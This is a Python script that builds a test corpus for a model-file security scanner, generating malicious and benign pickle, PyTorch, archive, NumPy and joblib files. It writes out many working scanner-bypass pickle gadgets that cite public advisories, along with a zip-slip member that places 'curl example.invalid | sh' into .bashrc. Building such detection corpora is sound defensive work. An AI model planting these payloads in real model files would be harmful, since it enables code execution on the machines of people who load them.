#!/usr/bin/env python3
"""Generate the warden-scan test corpus.

Run from anywhere:  python3 crates/warden-scan/tests/corpus/make_corpus.py

Every file is built here, byte by byte where the technique needs it, with nothing but
the Python standard library (`pickle`, `struct`, `zipfile`, `tarfile`, `gzip`, `zlib`).
The benign NumPy and scikit-learn files need `numpy`, `scikit-learn` and `joblib`
(install them in a scratch venv); when they are missing those files are left as they
are. CI never runs this script: the generated files are committed.

PyTorch itself is not needed: `torch.save` is reproduced faithfully (same zip layout,
`archive/data.pkl` pickled with protocol 2 and persistent ids
`('storage', torch.FloatStorage, key, 'cpu', numel)`, storages as raw members under
`archive/data/`, `_rebuild_tensor_v2` calls, `OrderedDict` state dicts with
`_metadata`) by registering stand-in `torch` modules so that `pickle` writes the very
same GLOBAL opcodes. The legacy (pre-1.6) format is reproduced the same way: five
pickles (magic number, protocol version, sys_info, the object, storage keys) followed
by raw storages.

Each generator's docstring says what the file is and which technique or public
advisory it reproduces; `python3 make_corpus.py --list` prints them, and
`INDEX.md` next to this script is generated from them.
"""

import argparse
import collections
import datetime
import gzip
import io
import os
import pathlib
import pickle
import struct
import sys
import tarfile
import types
import zipfile
import zlib

HERE = pathlib.Path(__file__).resolve().parent

# Reproducible output: archive timestamps come from a fixed clock.
import time as _time

_FIXED = types.SimpleNamespace(time=lambda: 1704067200.0, localtime=_time.gmtime, gmtime=_time.gmtime)
zipfile.time = _FIXED
gzip.time = _FIXED
GENERATORS = []


def gen(path):
    def deco(fn):
        GENERATORS.append((path, fn))
        return fn

    return deco


# ---------------------------------------------------------------- pickle opcode helpers
PROTO2 = b"\x80\x02"
PROTO4 = b"\x80\x04"


def su(s):
    """SHORT_BINUNICODE."""
    b = s.encode("utf-8")
    return b"\x8c" + bytes([len(b)]) + b


def g(module, name):
    """GLOBAL (text module and name)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def sg(module, name):
    """STACK_GLOBAL from two short strings."""
    return su(module) + su(name) + b"\x93"


def call(fn, *args):
    """fn(*args) via MARK ... TUPLE REDUCE."""
    return fn + b"(" + b"".join(args) + b"tR"


def s0(text):
    """Protocol 0 STRING."""
    return b"S'" + text.encode() + b"'\n"


# ------------------------------------------------------------ torch.save reproduction
_FAKE = {}


def _remove_fake_torch():
    """Take the stand-ins out of sys.modules (SciPy probes for a real torch)."""
    for name in ("torch", "torch._utils"):
        if getattr(sys.modules.get(name), "_warden_fake", False):
            del sys.modules[name]


def _install_fake_torch():
    """Stand-in `torch` modules so pickle writes torch's own GLOBAL names."""
    if _FAKE:
        sys.modules.update(_FAKE)
        return _FAKE["torch"]
    torch = types.ModuleType("torch")
    torch._warden_fake = True
    utils = types.ModuleType("torch._utils")
    utils._warden_fake = True

    def _rebuild_tensor_v2(*a, **k):
        raise RuntimeError("stand-in")

    def _rebuild_parameter(*a, **k):
        raise RuntimeError("stand-in")

    for f in (_rebuild_tensor_v2, _rebuild_parameter):
        f.__module__ = "torch._utils"
        f.__qualname__ = f.__name__
    utils._rebuild_tensor_v2 = _rebuild_tensor_v2
    utils._rebuild_parameter = _rebuild_parameter
    torch._utils = utils
    for name in ["FloatStorage", "HalfStorage", "BFloat16Storage", "LongStorage", "ByteStorage"]:
        setattr(torch, name, type(name, (object,), {"__module__": "torch"}))

    class dtype:  # torch dtypes pickle as the global torch.<name>
        def __init__(self, name):
            self.name = name

        def __reduce__(self):
            return self.name

    dtype.__module__ = "torch"
    for n in ["float32", "float16", "bfloat16", "int64"]:
        setattr(torch, n, dtype(n))

    class Size(tuple):
        pass

    Size.__module__ = "torch"
    Size.__qualname__ = "Size"
    dtype.__qualname__ = "dtype"
    torch.Size = Size
    _FAKE.update({"torch": torch, "torch._utils": utils})
    sys.modules.update(_FAKE)
    return torch


class Storage:
    ELEM = {"FloatStorage": 4, "HalfStorage": 2, "BFloat16Storage": 2, "LongStorage": 8, "ByteStorage": 1}

    def __init__(self, kind, key, values):
        self.kind = kind
        self.key = key
        self.data = values
        self.numel = len(values) // self.ELEM[kind]


class Tensor:
    def __init__(self, storage, shape, requires_grad=False, parameter=False):
        self.storage = storage
        self.shape = tuple(shape)
        self.requires_grad = requires_grad
        self.parameter = parameter

    def __reduce_ex__(self, proto):
        torch = _install_fake_torch()
        stride = []
        acc = 1
        for d in reversed(self.shape):
            stride.insert(0, acc)
            acc *= d
        t = (
            torch._utils._rebuild_tensor_v2,
            (self.storage, 0, self.shape, tuple(stride), self.requires_grad, collections.OrderedDict()),
        )
        if self.parameter:
            inner = Tensor(self.storage, self.shape)
            return (torch._utils._rebuild_parameter, (inner, self.requires_grad, collections.OrderedDict()))
        return t


class TorchPickler(pickle.Pickler):
    def __init__(self, f, legacy=False):
        super().__init__(f, protocol=2)
        self.legacy = legacy

    def persistent_id(self, obj):
        if isinstance(obj, Storage):
            torch = _install_fake_torch()
            pid = ("storage", getattr(torch, obj.kind), obj.key, "cpu", obj.numel)
            return pid + (None,) if self.legacy else pid
        return None


def torch_pickle(obj, legacy=False):
    buf = io.BytesIO()
    TorchPickler(buf, legacy).dump(obj)
    return buf.getvalue()


def collect_storages(obj, out):
    if isinstance(obj, Tensor):
        out[obj.storage.key] = obj.storage
    elif isinstance(obj, dict):
        for v in obj.values():
            collect_storages(v, out)
    elif isinstance(obj, (list, tuple)):
        for v in obj:
            collect_storages(v, out)
    return out


def torch_zip(obj, prefix="archive", data_pkl=None):
    """Bytes of a torch.save zip checkpoint (uncompressed members, as torch writes)."""
    pkl = data_pkl if data_pkl is not None else torch_pickle(obj)
    storages = collect_storages(obj, {})
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr(f"{prefix}/data.pkl", pkl)
        z.writestr(f"{prefix}/byteorder", "little")
        for key, st in storages.items():
            z.writestr(f"{prefix}/data/{key}", st.data)
        z.writestr(f"{prefix}/version", "3\n")
        z.writestr(f"{prefix}/.data/serialization_id", "1234567890123456789012345678901234567890")
    return buf.getvalue()


def torch_legacy(obj, main_pickle=None):
    """Bytes of a legacy (pre-1.6, non-zip) torch.save file."""
    storages = collect_storages(obj, {})
    out = io.BytesIO()
    out.write(pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2))
    out.write(pickle.dumps(1001, protocol=2))
    out.write(
        pickle.dumps(
            {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}},
            protocol=2,
        )
    )
    out.write(main_pickle if main_pickle is not None else torch_pickle(obj, legacy=True))
    out.write(pickle.dumps(sorted(storages), protocol=2))
    for key in sorted(storages):
        st = storages[key]
        out.write(struct.pack("<q", st.numel))
        out.write(st.data)
    return out.getvalue()


def small_state_dict():
    _install_fake_torch()
    w = Storage("FloatStorage", "0", struct.pack("<6f", 0.1, 0.2, 0.3, 0.4, 0.5, 0.6))
    b = Storage("FloatStorage", "1", struct.pack("<2f", 0.0, 1.0))
    sd = collections.OrderedDict([("fc.weight", Tensor(w, (2, 3))), ("fc.bias", Tensor(b, (2,)))])
    sd._metadata = collections.OrderedDict([("", {"version": 1}), ("fc", {"version": 1})])
    return sd


EVIL = call(g("os", "system"), s0("echo pwned"))


def evil_p2():
    return PROTO2 + EVIL + b"."


# ================================================================= malicious: pickle
@gen("malicious/pickle/os_system_reduce.pkl")
def _():
    """The classic: GLOBAL os.system + REDUCE (protocol 2), what `__reduce__` returning os.system produces."""
    return evil_p2()


@gen("malicious/pickle/posix_system_proto0.pkl")
def _():
    """Protocol 0 text pickle calling posix.system (what os.system pickles as on Linux)."""
    return call(g("posix", "system"), s0("id")) + b"."


@gen("malicious/pickle/builtins_eval_stack_global.pkl")
def _():
    """Protocol 4 STACK_GLOBAL builtins.eval with a code string."""
    return PROTO4 + sg("builtins", "eval") + su("__import__('os').system('id')") + b"\x85R."


@gen("malicious/pickle/stack_global_from_memo.pkl")
def _():
    """STACK_GLOBAL whose module and name come from the memo after decoys (picklescan issue #22, agent-bom memo evasion)."""
    p = PROTO4 + su("os") + b"\x94" + su("system") + b"\x94" + b"00"
    p += su("collections") + su("OrderedDict") + b"00"  # decoy literals right before
    p += b"h\x00h\x01\x93" + su("id") + b"\x85R."
    return p


@gen("malicious/pickle/py2_builtin_exec.pkl")
def _():
    """`__builtin__.exec` in a protocol 0 pickle: CPython maps __builtin__ to builtins (fix_imports)."""
    return call(g("__builtin__", "exec"), s0("import os; os.system('id')")) + b"."


@gen("malicious/pickle/subprocess_inst.pkl")
def _():
    """INST opcode (import and call in one) on subprocess.check_output."""
    return b"(" + b"(" + s0("id") + b"l" + b"isubprocess\ncheck_output\n."


@gen("malicious/pickle/pty_spawn_obj.pkl")
def _():
    """OBJ opcode calling pty.spawn (fickling PR #108 payload)."""
    return b"(cpty\nspawn\nS\"id\"\no."


@gen("malicious/pickle/newobj_ex_popen.pkl")
def _():
    """NEWOBJ_EX on subprocess.Popen with keyword arguments."""
    return PROTO4 + sg("subprocess", "Popen") + su("id") + b"\x85" + b"}" + su("shell") + b"\x88s" + b"\x92."


@gen("malicious/pickle/pip_main.pkl")
def _():
    """pip.main(['install', ...]): CVE-2025-1716 (picklescan did not treat pip as unsafe)."""
    return PROTO2 + g("pip", "main") + b"(]" + b"(" + su("install") + su("evil-package") + b"e" + b"tR."


@gen("malicious/pickle/ensurepip_run_pip.pkl")
def _():
    """ensurepip._run_pip: GHSA-xp4f-hrf8-rxw7."""
    return PROTO2 + call(g("ensurepip", "_run_pip"), b"]" + b"(" + su("install") + su("x") + b"e") + b"."


@gen("malicious/pickle/timeit_timeit.pkl")
def _():
    """timeit.timeit('code'): GHSA-v7x6-rv5q-mhwc."""
    return PROTO2 + call(g("timeit", "timeit"), su("__import__('os').system('id')")) + b"."


@gen("malicious/pickle/cprofile_run.pkl")
def _():
    """cProfile.run('code'): GHSA-7wx9-6375-f5wh / GHSA-46h3-79wf-xr6c (profilers execute code)."""
    return PROTO2 + call(g("cProfile", "run"), su("__import__('os').system('id')")) + b"."


@gen("malicious/pickle/bdb_run.pkl")
def _():
    """bdb.Bdb().run('code') via an instance method reached by a dotted name (GHSA-4675-36f9-wf6r)."""
    return PROTO4 + sg("bdb", "Bdb.run") + b"(" + sg("bdb", "Bdb") + b")R" + su("id") + b"tR."


@gen("malicious/pickle/pkgutil_resolve_name.pkl")
def _():
    """pkgutil.resolve_name('os:system')(...): GHSA-vvpj-8cmc-gx39 (universal blocklist bypass)."""
    return PROTO2 + g("pkgutil", "resolve_name") + b"(" + su("os:system") + b"tR(" + su("id") + b"tR."


@gen("malicious/pickle/importlib_getattr_join.pkl")
def _():
    """importlib.import_module + builtins.getattr chain (modelscan issue #331)."""
    imp = sg("importlib", "import_module") + b"(" + su("os") + b"tR"
    ga = sg("builtins", "getattr")
    return PROTO4 + ga + b"(" + imp + su("system") + b"tR(" + su("id") + b"tR."


@gen("malicious/pickle/numpy_builtins_dunder.pkl")
def _():
    """STACK_GLOBAL numpy.__builtins__ reaching eval through an allowed package (the technique of modelscan issue #330)."""
    return PROTO4 + sg("numpy", "__builtins__") + b"."


@gen("malicious/pickle/numpy_prod_build_setattr.pkl")
def _():
    """BUILD slot-state setattr on numpy.prod, then dotted GLOBAL names read it back (modelscan issue #85)."""
    p = PROTO4 + g("numpy", "prod") + b"N(" + b"Va\nVos\n" + b"d\x86b"
    p += b"N(" + b"Vb\nVsystem\n" + b"d\x86b0"
    p += g("numpy", "prod.a") + b"p0\n" + g("numpy", "prod.b") + b"p1\n00"
    p += b"g0\ng1\n\x93" + b"Vid\n\x85R."
    return p


@gen("malicious/pickle/operator_methodcaller.pkl")
def _():
    """operator.methodcaller('system', 'id') applied to a module object (GHSA-m273-6v24-x4m4)."""
    mod = g("builtins", "__import__") + b"(" + su("os") + b"tR"
    return PROTO2 + g("operator", "methodcaller") + b"(" + su("system") + su("id") + b"tR(" + mod + b"tR."


@gen("malicious/pickle/_operator_attrgetter.pkl")
def _():
    """_operator.attrgetter (the C module behind operator): GHSA-955r-x9j8-7rhh."""
    mod = g("builtins", "__import__") + b"(" + su("os") + b"tR"
    return PROTO2 + g("_operator", "attrgetter") + b"(" + su("system") + b"tR(" + mod + b"tR(" + su("id") + b"tR."


@gen("malicious/pickle/functools_partial.pkl")
def _():
    """functools.partial(os.system, 'id')() wrapper."""
    return PROTO2 + g("functools", "partial") + b"(" + g("os", "system") + su("id") + b"tR)R."


@gen("malicious/pickle/nested_pickle_loads.pkl")
def _():
    """_pickle.loads of an embedded malicious pickle (GHSA-84r2-jw7c-4r5q, modelscan issue #267)."""
    inner = evil_p2()
    return PROTO2 + g("_pickle", "loads") + b"(C" + bytes([len(inner)]) + inner + b"tR."


@gen("malicious/pickle/torch_load_nested.pkl")
def _():
    """torch.load on an attacker-chosen file: nested unsafe load."""
    return PROTO2 + call(g("torch", "load"), su("/tmp/evil.pt")) + b"."


@gen("malicious/pickle/asyncio_subprocess.pkl")
def _():
    """asyncio.unix_events submodule gadget (CVE-2025-10157: submodules of blocked modules)."""
    return PROTO4 + sg("asyncio.unix_events", "_UnixSubprocessTransport._start") + b"N" + su("id") + b"\x86R."


@gen("malicious/pickle/idlelib_gadget.pkl")
def _():
    """idlelib gadget (GHSA-r8g5-cgf2-4m4m)."""
    return PROTO2 + call(g("idlelib.pyshell", "ModifiedInterpreter"), b"N") + b"."


@gen("malicious/pickle/lib2to3_grammar_load.pkl")
def _():
    """lib2to3 Grammar.load reads a pickle from a path (GHSA-r8g5-cgf2-4m4m)."""
    return PROTO4 + sg("lib2to3.pgen2.grammar", "Grammar") + b")R" + b"\x94" + sg("lib2to3.pgen2.grammar", "Grammar.load") + b"h\x00" + su("/tmp/x.pickle") + b"\x86R."


@gen("malicious/pickle/numpy_f2py_eval.pkl")
def _():
    """numpy.f2py.crackfortran._eval_length evaluates strings."""
    return PROTO2 + call(g("numpy.f2py.crackfortran", "_eval_length"), su("__import__('os').system('id')"), b"}") + b"."


@gen("malicious/pickle/distutils_write_file.pkl")
def _():
    """distutils.file_util.write_file: arbitrary file write (CVE-2025-10155 family)."""
    return PROTO2 + call(g("distutils.file_util", "write_file"), su("/root/.bashrc"), b"]") + b"."


@gen("malicious/pickle/torch_collect_env_run.pkl")
def _():
    """torch.utils.collect_env.run (modelscan issue #338)."""
    return PROTO2 + call(g("torch.utils.collect_env", "run"), su("id")) + b"."


@gen("malicious/pickle/multiprocessing_spawnv.pkl")
def _():
    """multiprocessing.util.spawnv_passfds (modelscan issue #338)."""
    return PROTO2 + call(g("multiprocessing.util", "spawnv_passfds"), b"C\x07/bin/sh", b")", b")") + b"."


@gen("malicious/pickle/interpreters_run_string.pkl")
def _():
    """_interpreters.run_string (fickling GHSA-6ggj-6f2q-f7mx, private stdlib modules)."""
    return PROTO2 + call(g("_interpreters", "run_string"), b"K\x00", su("import os")) + b"."


@gen("malicious/pickle/unknown_module_call.pkl")
def _():
    """A call into a third-party module no block list knows (pandas.read_csv exfiltration, modelscan #338): the allowlist still flags it."""
    return PROTO2 + call(g("pandas.io.parsers.readers", "read_csv"), su("https://example.invalid/?leak")) + b"."


@gen("malicious/pickle/dotted_stack_global.pkl")
def _():
    """Dotted attribute walk from an allowed global: collections.OrderedDict.__init__.__globals__."""
    return PROTO4 + sg("collections", "OrderedDict.__init__.__globals__") + b"."


@gen("malicious/pickle/unicode_lookalike_name.pkl")
def _():
    """Fullwidth look-alike letters in the global name (scanners that NFKC-normalise see 'eval')."""
    return PROTO4 + sg("builtins", "\uff45val") + su("1") + b"\x85R."


@gen("malicious/pickle/ext_opcode.pkl")
def _():
    """EXT1 import through copyreg's extension registry, then a call."""
    return PROTO2 + b"\x82\x01" + su("id") + b"\x85R."


@gen("malicious/pickle/codecs_rot13_module_name.pkl")
def _():
    """STACK_GLOBAL module name computed by allowed _codecs.encode('bf', 'rot13') at load time."""
    mod = sg("_codecs", "encode") + su("bf") + su("rot13") + b"\x86R"
    return PROTO4 + mod + su("system") + b"\x93" + su("id") + b"\x85R."


@gen("malicious/pickle/build_on_class.pkl")
def _():
    """BUILD on a class (OrderedDict) with slot state: setattr on a class itself."""
    return PROTO2 + g("collections", "OrderedDict") + b"N}" + su("__reduce_ex__") + g("os", "system") + b"s\x86b."


@gen("malicious/pickle/second_pickle_evil.pkl")
def _():
    """A clean pickle followed by a malicious one: loaders that call load() again run it."""
    return pickle.dumps({"weights": [1.0, 2.0]}, protocol=2) + evil_p2()


@gen("malicious/pickle/frame_misdeclared.pkl")
def _():
    """Protocol 4 FRAME whose length lies: the C unpickler treats frames as a hint and runs the payload anyway."""
    body = sg("os", "system") + su("id") + b"\x85R."
    return PROTO4 + b"\x95" + struct.pack("<Q", 3) + body


@gen("malicious/pickle/webbrowser_open.pkl")
def _():
    """webbrowser.open: network/process side effect."""
    return PROTO2 + call(g("webbrowser", "open"), su("https://example.invalid")) + b"."


@gen("malicious/pickle/runpy_run_path.pkl")
def _():
    """runpy._run_code / run_path: code execution through import machinery."""
    return PROTO2 + call(g("runpy", "run_path"), su("/tmp/x.py")) + b"."


@gen("malicious/pickle/marshal_function.pkl")
def _():
    """types.FunctionType(marshal.loads(code), {})(): bytecode smuggling."""
    code = g("marshal", "loads") + b"(C\x04abcdtR"
    return PROTO2 + g("types", "FunctionType") + b"(" + code + b"}tR)R."


@gen("malicious/pickle/model.bin")
def _():
    """A raw malicious pickle named like a PyTorch weights file (CVE-2025-10155: scanners pick the parser by extension)."""
    return evil_p2()


# ================================================================== malicious: torch
def evil_torch_pickle():
    sd = small_state_dict()
    clean = torch_pickle(sd)
    # Same checkpoint, with the state dict wrapped in a call to os.system first.
    return PROTO2 + EVIL + b"0" + clean[2:]


@gen("malicious/torch/reduce_in_data_pkl.pt")
def _():
    """torch.save zip checkpoint whose archive/data.pkl runs os.system before returning the state dict."""
    return torch_zip(small_state_dict(), data_pkl=evil_torch_pickle())


@gen("malicious/torch/renamed_prefix.pt")
def _():
    """Pickle under a non-standard archive prefix (`weights/data.pkl`; torch uses whatever prefix the first entry has; GHSA-769v-p64c-89pr)."""
    return torch_zip(small_state_dict(), prefix="weights", data_pkl=evil_torch_pickle())


@gen("malicious/torch/pickle_in_odd_member.zip")
def _():
    """A pickle stored under a member name with no pickle-like extension."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("model/config.dat", evil_p2())
        z.writestr("model/README.txt", "weights inside")
    return buf.getvalue()


@gen("malicious/torch/duplicate_data_pkl.pt")
def _():
    """Two archive/data.pkl members: the first clean, the second malicious (loaders disagree which they read)."""
    sd = small_state_dict()
    buf = io.BytesIO()
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(buf, "w") as z:
            z.writestr("archive/data.pkl", torch_pickle(sd))
            z.writestr("archive/data.pkl", evil_torch_pickle())
            z.writestr("archive/version", "3\n")
            for k, st in collect_storages(sd, {}).items():
                z.writestr(f"archive/data/{k}", st.data)
    return buf.getvalue()


@gen("malicious/torch/local_header_name_mismatch.pt")
def _():
    """Local header names `archive/data.pkl` differently than the central directory (stream readers vs PyTorch)."""
    data = torch_zip(small_state_dict(), data_pkl=evil_torch_pickle())
    pos = data.find(b"archive/data.pkl")  # first occurrence: the local header
    return data[:pos] + b"archive/data.pk_" + data[pos + 16 :]


@gen("malicious/torch/bad_crc.pt")
def _():
    """CRC of the pickle member corrupted: Python's zipfile refuses, PyTorch loads it (CVE-2025-10156)."""
    data = bytearray(torch_zip(small_state_dict(), data_pkl=evil_torch_pickle()))
    # central directory entry of the first member: CRC at offset 16
    cd = data.find(b"PK\x01\x02")
    data[cd + 16 : cd + 20] = b"\xde\xad\xbe\xef"
    data[14:18] = b"\xde\xad\xbe\xef"
    return bytes(data)


@gen("malicious/torch/flag_bits.pt")
def _():
    """General-purpose flag bits set on the pickle member (encryption bit; GHSA-w8jq-xcqf-f792: scanners crash, loaders differ)."""
    data = bytearray(torch_zip(small_state_dict(), data_pkl=evil_torch_pickle()))
    cd = data.find(b"PK\x01\x02")
    data[cd + 8] |= 0x01
    data[6] |= 0x01
    return bytes(data)


@gen("malicious/torch/legacy_format.pt")
def _():
    """Legacy (pre-1.6) non-zip torch.save: five pickles then raw storages; the object pickle calls os.system."""
    sd = small_state_dict()
    main = PROTO2 + EVIL + b"0" + torch_pickle(sd, legacy=True)[2:]
    return torch_legacy(sd, main_pickle=main)


@gen("malicious/torch/legacy_tar.tar")
def _():
    """The oldest torch format: a tar with sys_info, pickle, tensors, storages; `pickle` is malicious."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for name, payload in [
            ("sys_info", pickle.dumps({"protocol_version": 1000}, protocol=2)),
            ("pickle", evil_p2()),
            ("tensors", pickle.dumps(0, protocol=2)),
            ("storages", pickle.dumps(0, protocol=2)),
        ]:
            info = tarfile.TarInfo(name)
            info.size = len(payload)
            info.mtime = 0
            t.addfile(info, io.BytesIO(payload))
    return buf.getvalue()


@gen("malicious/torch/torchscript_code.pt")
def _():
    """TorchScript archive with code/ members that torch.jit.load compiles and runs."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("archive/data.pkl", torch_pickle(collections.OrderedDict()))
        z.writestr("archive/code/__torch__.py", "def forward(self):\n  return torch.ops.aten.id()\n")
        z.writestr("archive/version", "3\n")
    return buf.getvalue()


@gen("malicious/torch/polyglot_pickle_zip.pt")
def _():
    """Malicious pickle at the start, a clean checkpoint zip at the end: torch.load reads the pickle, zip-aware scanners the zip."""
    return evil_p2() + torch_zip(small_state_dict())


# ================================================================ malicious: archives
@gen("malicious/archive/nested3.zip")
def _():
    """A malicious pickle three zips deep."""
    inner = evil_p2()
    for level in range(3):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
            z.writestr(f"level{level}/payload.bin" if level == 0 else f"level{level}.zip", inner)
        inner = buf.getvalue()
    return inner


@gen("malicious/archive/model.7z")
def _():
    """A 7z container where a checkpoint is expected (signature and a stub header)."""
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24)


@gen("malicious/archive/zip_bomb.zip")
def _():
    """A 64 MiB member of zeros deflated to ~64 KiB (ratio ~1000)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("weights.bin", bytes(64 << 20))
    return buf.getvalue()


@gen("malicious/archive/overlapping.zip")
def _():
    """Two central-directory entries pointing at the same local header (overlapping members)."""
    data = bytearray()
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("a.pkl", evil_p2())
    raw = buf.getvalue()
    cd = raw.find(b"PK\x01\x02")
    eocd = raw.find(b"PK\x05\x06")
    entry = raw[cd:eocd]
    entry2 = entry.replace(b"a.pkl", b"b.pkl")
    cd_bytes = entry + entry2
    data = raw[:cd] + cd_bytes
    eocd_rec = bytearray(raw[eocd:])
    struct.pack_into("<HHII", eocd_rec, 8, 2, 2, len(cd_bytes), cd)
    return bytes(data + eocd_rec)


@gen("malicious/archive/evil.tar.gz")
def _():
    """A malicious pickle inside a gzip-compressed tar."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz", format=tarfile.PAX_FORMAT) as t:
        payload = evil_p2()
        info = tarfile.TarInfo("model/pytorch_model.bin")
        info.size = len(payload)
        info.mtime = 0
        t.addfile(info, io.BytesIO(payload))
    return buf.getvalue()


@gen("malicious/archive/traversal.zip")
def _():
    """Member path that climbs out of the extraction directory (zip slip)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("../../.bashrc", "curl example.invalid | sh\n")
    return buf.getvalue()


class _Unseekable(io.RawIOBase):
    """A write-only sink without seek: zipfile then streams members with data descriptors."""

    def __init__(self):
        self.buf = bytearray()

    def writable(self):
        return True

    def seekable(self):
        return False

    def write(self, b):
        self.buf += b
        return len(b)


@gen("malicious/archive/data_descriptor_lies.zip")
def _():
    """Streamed zip (flag bit 3, sizes in a data descriptor) whose descriptor disagrees with the central directory: stream readers and directory readers see different sizes."""
    sink = _Unseekable()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("weights.pkl", pickle.dumps([1.0, 2.0, 3.0], protocol=2))
    data = bytearray(sink.buf)
    dd = data.find(b"PK\x07\x08")
    struct.pack_into("<I", data, dd + 12, 4096)  # uncompressed size in the descriptor
    return bytes(data)


@gen("benign/archive/zip64_member.zip")
def _():
    """A zip whose member carries ZIP64 extended sizes (force_zip64), holding a clean pickle."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        with z.open("state.pkl", "w", force_zip64=True) as f:
            f.write(pickle.dumps({"w": [0.5] * 10}, protocol=4))
    return buf.getvalue()


# ================================================================== malicious: numpy
def npy_header(descr, shape):
    h = "{'descr': %r, 'fortran_order': False, 'shape': %r, }" % (descr, shape)
    h = h.encode("latin1")
    pad = 64 - ((10 + len(h) + 1) % 64)
    h = h + b" " * pad + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h


@gen("malicious/numpy/object_array.npy")
def _():
    """Object-dtype .npy whose data pickle calls os.system (np.load with allow_pickle=True)."""
    return npy_header("|O", (1,)) + evil_p2()


@gen("malicious/numpy/object_array.npz")
def _():
    """An .npz holding a clean array and a malicious object array."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("w.npy", npy_header("<f4", (2,)) + struct.pack("<2f", 1.0, 2.0))
        z.writestr("meta.npy", npy_header("|O", (1,)) + evil_p2())
    return buf.getvalue()


@gen("malicious/joblib/evil.joblib")
def _():
    """A joblib file is a pickle: this one calls os.system."""
    return evil_p2()


@gen("malicious/joblib/evil_compressed.joblib")
def _():
    """joblib.dump(..., compress=3) writes a zlib stream; the pickle inside calls os.system."""
    return zlib.compress(evil_p2(), 3)


# ========================================================================== benign
@gen("benign/torch/state_dict.pt")
def _():
    """torch.save(model.state_dict()) zip layout with _rebuild_tensor_v2, FloatStorage persistent ids, OrderedDict + _metadata."""
    return torch_zip(small_state_dict())


@gen("benign/torch/checkpoint_full.pt")
def _():
    """A training checkpoint: model and optimizer state, argparse.Namespace, pathlib path, datetime, parameters, dtypes."""
    torch = _install_fake_torch()
    sd = small_state_dict()
    emb = Storage("HalfStorage", "2", bytes(16))
    ck = {
        "epoch": 7,
        "model": sd,
        "embedding": Tensor(emb, (2, 4), requires_grad=True, parameter=True),
        "optimizer": {"state": {}, "param_groups": [{"lr": 0.001, "betas": (0.9, 0.999), "params": [0, 1]}]},
        "args": argparse.Namespace(lr=0.001, data=pathlib.PurePosixPath("/data/train"), seed=1),
        "saved_at": datetime.datetime(2024, 1, 2, 3, 4, 5),
        "dtype": torch.float16,
        "shape": torch.Size((2, 4)),
        "tags": {1, 2, 3},
    }
    return torch_zip(ck)


@gen("benign/torch/legacy_format.pt")
def _():
    """Legacy (pre-1.6) non-zip torch.save of a state dict."""
    return torch_legacy(small_state_dict())


@gen("benign/torch/state_dict.tar.gz")
def _():
    """A checkpoint shipped as a .tar.gz (nested archive)."""
    payload = torch_zip(small_state_dict())
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz", format=tarfile.USTAR_FORMAT) as t:
        info = tarfile.TarInfo("model/pytorch_model.bin")
        info.size = len(payload)
        info.mtime = 0
        t.addfile(info, io.BytesIO(payload))
    return buf.getvalue()


@gen("benign/pickle/plain_data_proto0.pkl")
def _():
    """Plain data, protocol 0 (text opcodes, PUT/GET memo)."""
    x = [1, 2.5, "text"]
    return pickle.dumps({"a": x, "b": x, "c": (None, True, -3), "d": b"bytes"}, protocol=0)


@gen("benign/pickle/plain_data_proto5.pkl")
def _():
    """Plain data, protocol 5 (FRAME, MEMOIZE, BINUNICODE8-free), with set/frozenset/bytearray/complex/slice."""
    return pickle.dumps(
        {"s": {1, 2}, "f": frozenset([3]), "ba": bytearray(b"xy"), "c": 1 + 2j, "sl": slice(1, 5), "l": list(range(50))},
        protocol=5,
    )


@gen("benign/pickle/concatenated.pkl")
def _():
    """Two clean pickles back to back."""
    return pickle.dumps([1, 2], protocol=2) + pickle.dumps({"x": "y"}, protocol=4)


# --------------------------------------------------------------- numpy and sklearn
def _numpy():
    _remove_fake_torch()
    try:
        import numpy as np  # noqa: F401

        return np
    except ImportError:
        return None


@gen("benign/numpy/floats.npy")
def _():
    """np.save of a float32 matrix."""
    np = _numpy()
    if np is None:
        return None
    buf = io.BytesIO()
    np.save(buf, np.arange(12, dtype=np.float32).reshape(3, 4))
    return buf.getvalue()


@gen("benign/numpy/arrays.npz")
def _():
    """np.savez_compressed of two arrays (deflated zip of .npy members)."""
    np = _numpy()
    if np is None:
        return None
    buf = io.BytesIO()
    np.savez_compressed(buf, w=np.ones((4, 4)), b=np.zeros(4, dtype=np.int64))
    return buf.getvalue()


@gen("benign/numpy/pickled_arrays.pkl")
def _():
    """pickle.dumps of a dict of ndarrays and NumPy scalars (numpy._core.multiarray._reconstruct, scalar, dtype)."""
    np = _numpy()
    if np is None:
        return None
    return pickle.dumps(
        {"w": np.arange(6, dtype=np.float64).reshape(2, 3), "best": np.float64(0.93), "step": np.int64(10)},
        protocol=4,
    )


@gen("benign/numpy/object_array_clean.npy")
def _():
    """An object array with plain Python values (needs allow_pickle; reported low, never failing)."""
    np = _numpy()
    if np is None:
        return None
    buf = io.BytesIO()
    np.save(buf, np.array([1, "a", None], dtype=object), allow_pickle=True)
    return buf.getvalue()


def _sklearn_models():
    _remove_fake_torch()
    try:
        import numpy as np
        from sklearn.linear_model import LogisticRegression
